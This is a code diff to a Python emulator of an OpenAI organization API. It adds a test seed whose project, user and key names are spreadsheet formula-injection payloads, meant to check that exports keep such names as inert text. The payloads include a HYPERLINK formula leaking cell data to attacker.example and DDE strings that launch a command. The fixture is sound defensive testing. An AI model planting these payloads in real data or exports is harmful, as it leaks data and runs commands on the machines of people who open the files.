@@ -6,7 +6,7 @@ keys appear over time; what the API shows depends on the clock (`visible_at`).
 
 from __future__ import annotations
 
-from dataclasses import dataclass
+from dataclasses import dataclass, replace
 from functools import lru_cache
 
 from connectors.openai.emulator.catalog import CREATION_END, DAY, HOUR, ORG_START
@@ -161,8 +161,44 @@ def visible_at(created: int, now: int) -> bool:
     return created <= now
 
 
+# The organization of this seed has members who named things as a spreadsheet would run
+# them (any project member may name a key): exports must keep such names inert text.
+HOSTILE_SEED = 1337
+HOSTILE_NAMES = (
+    '=HYPERLINK("https://attacker.example/?leak="&A1,"Open report")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+2",
+    "\r=1+2",
+)
+
+
 @lru_cache(maxsize=32)
 def build_org(seed: int) -> Org:
+    org = _build_org(seed)
+    return _hostile(org) if seed == HOSTILE_SEED else org
+
+
+def _hostile(org: Org) -> Org:
+    """The first projects, users and keys renamed with HOSTILE_NAMES, in turn."""
+    names = HOSTILE_NAMES
+
+    def renamed(items: tuple, shift: int) -> tuple:
+        return tuple(
+            replace(item, name=names[(i + shift) % len(names)]) if i < len(names) else item
+            for i, item in enumerate(items)
+        )
+
+    return replace(
+        org,
+        projects=renamed(org.projects, 0),
+        users=renamed(org.users, 1),
+        keys=renamed(org.keys, 3),
+    )
+
+
+def _build_org(seed: int) -> Org:
     users = _users(seed)
     projects = tuple(_project(seed, i, users) for i in range(7 + h64(seed, 1) % 3))
     projects = tuple(sorted(projects, key=lambda p: p.created_at))
